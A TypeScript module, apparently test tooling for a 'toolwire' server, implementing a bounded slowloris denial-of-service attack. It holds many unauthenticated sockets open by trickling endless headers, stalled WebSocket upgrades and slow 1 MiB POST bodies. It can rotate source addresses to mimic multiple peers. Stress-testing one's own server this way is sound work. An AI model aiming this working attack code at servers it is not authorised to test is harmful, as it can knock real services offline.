/**
 * A bounded slowloris against a toolwire server (issue 11 §2), for `pnpm soak` and the pre-auth
 * tests. For a given time it keeps `connections` sockets open per kind, none of which ever
 * authenticates:
 * - `headers`: `GET /healthz` whose header lines trickle in and never end;
 * - `upgrades`: a WebSocket upgrade (`Upgrade: websocket`, no `Authorization`) whose headers never end;
 * - `bodies`: a complete `POST /mcp` head without a token announcing a 1 MiB body, then trickling it.
 * Every `trickleMs` one more line (or body chunk) goes to each open socket. A socket the server
 * closes is dialled again after `reopenMs` (a fixed pace, so a run stays bounded in CPU). At the end
 * every socket is destroyed and no timer is left; the counts say what the server did.
 */
import { type Socket, connect } from 'node:net';
import { connect as connectTls } from 'node:tls';

/** One way of holding a connection without authenticating. */
export type SlowlorisKind = 'headers' | 'bodies' | 'upgrades';

export const SLOWLORIS_KINDS: readonly SlowlorisKind[] = Object.freeze(['headers', 'bodies', 'upgrades']);

export interface SlowlorisOptions {
  /** The server, e.g. `ws://127.0.0.1:7700` or `http://127.0.0.1:7700/mcp` (host and port are used; `wss:`/`https:` dial TLS, certificate not checked). */
  url: string;
  /** How long the attack runs, ms (positive). */
  durationMs: number;
  /** Sockets kept open per kind; default 100. */
  connections?: number;
  /** Kinds to run; default all three. */
  kinds?: readonly SlowlorisKind[];
  /** Time between two trickled lines or body chunks, ms; default 1000. */
  trickleMs?: number;
  /** Wait before dialling again after the server closed a socket, ms; default 200. */
  reopenMs?: number;
  /** Source addresses, used round-robin (e.g. `127.0.0.2`…`127.0.0.9` to look like several peers); default the system's choice. */
  localAddresses?: readonly string[];
  /** Ends the attack early. */
  signal?: AbortSignal;
  /** Called every `trickleMs` with the running totals (e.g. to wait until the attack is established). */
  onTick?: (total: SlowlorisCounts) => void;
}

/** What happened to one kind's sockets (or all of them). */
export interface SlowlorisCounts {
  /** Connections dialled. */
  opened: number;
  /** Connections the server closed or reset before the attack ended. */
  closedByServer: number;
  /** Connections on which the server sent anything (a refusal such as 401 or 408). */
  answered: number;
  /** Dials that failed (refused, reset before connecting). */
  failedDials: number;
  /** Bytes written. */
  bytesSent: number;
  /** Most sockets of this kind connected at once (in `total`: the sum of the kinds' peaks). */
  peakOpen: number;
}

export interface SlowlorisReport {
  durationMs: number;
  byKind: Record<SlowlorisKind, SlowlorisCounts>;
  total: SlowlorisCounts;
}

const BODY_BYTES = 1024 * 1024;

const zero = (): SlowlorisCounts => ({ opened: 0, closedByServer: 0, answered: 0, failedDials: 0, bytesSent: 0, peakOpen: 0 });

/** The first bytes a socket of `kind` sends. */
function opening(kind: SlowlorisKind, host: string): string {
  switch (kind) {
    case 'headers':
      return `GET /healthz HTTP/1.1\r\nHost: ${host}\r\n`;
    case 'upgrades':
      return `GET / HTTP/1.1\r\nHost: ${host}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n`;
    case 'bodies':
      return (
        `POST /mcp HTTP/1.1\r\nHost: ${host}\r\nContent-Type: application/json\r\nAccept: application/json, text/event-stream\r\n` +
        `Content-Length: ${BODY_BYTES}\r\n\r\n{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"pad":"`
      );
  }
}

/** One more trickle of `kind`: a header line, or body bytes. */
const trickle = (kind: SlowlorisKind, n: number): string => (kind === 'bodies' ? 'xxxxxxxx' : `X-Slow-${n}: ${'a'.repeat(8)}\r\n`);

/**
 * Run a slowloris against `options.url` for `options.durationMs`; resolves with the counts once
 * every socket is closed.
 * @throws RangeError for a bad duration, count or time, TypeError for a URL without a host
 */
export async function slowloris(options: SlowlorisOptions): Promise<SlowlorisReport> {
  const { durationMs, connections = 100, kinds = SLOWLORIS_KINDS, trickleMs = 1000, reopenMs = 200, localAddresses = [] } = options;
  for (const [name, v] of Object.entries({ durationMs, connections, trickleMs })) {
    if (!Number.isFinite(v) || v <= 0) throw new RangeError(`slowloris: ${name} must be positive, got ${v}`);
  }
  if (!Number.isFinite(reopenMs) || reopenMs < 0) throw new RangeError(`slowloris: reopenMs must be non-negative, got ${reopenMs}`);
  const url = new URL(options.url);
  if (url.hostname === '') throw new TypeError(`slowloris: no host in ${options.url}`);
  const secure = url.protocol === 'wss:' || url.protocol === 'https:';
  const host = url.hostname.replace(/^\[|\]$/g, '');
  const port = Number(url.port || (secure ? 443 : 80));

  const started = Date.now();
  const byKind = Object.fromEntries(kinds.map((k) => [k, zero()])) as Record<SlowlorisKind, SlowlorisCounts>;
  /** Every socket not yet closed (dialling or connected). */
  const sockets = new Set<Socket>();
  /** Connected sockets and how many lines each has trickled. */
  const open = new Map<Socket, { kind: SlowlorisKind; lines: number }>();
  const openOf = new Map<SlowlorisKind, number>();
  const reopenTimers = new Set<NodeJS.Timeout>();
  let dials = 0;
  let stopping = false;
  let resolveStopped!: () => void;
  const stopped = new Promise<void>((resolve) => (resolveStopped = resolve));
  const write = (socket: Socket, kind: SlowlorisKind, text: string): void => {
    byKind[kind].bytesSent += Buffer.byteLength(text);
    socket.write(text);
  };

  const dial = (kind: SlowlorisKind): void => {
    if (stopping) return;
    const counts = byKind[kind];
    const localAddress = localAddresses.length > 0 ? localAddresses[dials++ % localAddresses.length] : undefined;
    const socket: Socket = secure
      ? connectTls({ host, port, rejectUnauthorized: false, ...(localAddress && { localAddress }) })
      : connect({ host, port, ...(localAddress && { localAddress }) });
    sockets.add(socket);
    counts.opened++;
    let connected = false;
    let answered = false;
    socket.on('error', () => {});
    socket.on('data', () => {
      if (answered) return;
      answered = true;
      counts.answered++;
    });
    socket.once(secure ? 'secureConnect' : 'connect', () => {
      connected = true;
      open.set(socket, { kind, lines: 0 });
      const now = (openOf.get(kind) ?? 0) + 1;
      openOf.set(kind, now);
      counts.peakOpen = Math.max(counts.peakOpen, now);
      write(socket, kind, opening(kind, url.host));
    });
    socket.once('close', () => {
      sockets.delete(socket);
      if (connected) {
        open.delete(socket);
        openOf.set(kind, (openOf.get(kind) ?? 1) - 1);
      } else if (!stopping) counts.failedDials++;
      if (stopping) {
        if (sockets.size === 0) resolveStopped();
        return;
      }
      if (connected) counts.closedByServer++;
      const timer = setTimeout(() => {
        reopenTimers.delete(timer);
        dial(kind);
      }, reopenMs);
      reopenTimers.add(timer);
    });
  };

  const totals = (): SlowlorisCounts => {
    const total = zero();
    for (const counts of Object.values(byKind)) {
      for (const key of Object.keys(total) as (keyof SlowlorisCounts)[]) total[key] += counts[key];
    }
    return total;
  };
  const ticker = setInterval(() => {
    for (const [socket, state] of open) {
      if (!socket.writable) continue;
      state.lines++;
      write(socket, state.kind, trickle(state.kind, state.lines));
    }
    options.onTick?.(totals());
  }, trickleMs);

  for (let i = 0; i < connections; i++) for (const kind of kinds) dial(kind);

  await new Promise<void>((resolve) => {
    const timer = setTimeout(done, durationMs);
    const onAbort = (): void => done();
    options.signal?.addEventListener('abort', onAbort, { once: true });
    if (options.signal?.aborted) done();
    function done(): void {
      clearTimeout(timer);
      options.signal?.removeEventListener('abort', onAbort);
      resolve();
    }
  });

  stopping = true;
  clearInterval(ticker);
  for (const timer of reopenTimers) clearTimeout(timer);
  reopenTimers.clear();
  if (sockets.size === 0) resolveStopped();
  for (const socket of sockets) socket.destroy();
  await stopped;

  return { durationMs: Date.now() - started, byKind, total: totals() };
}
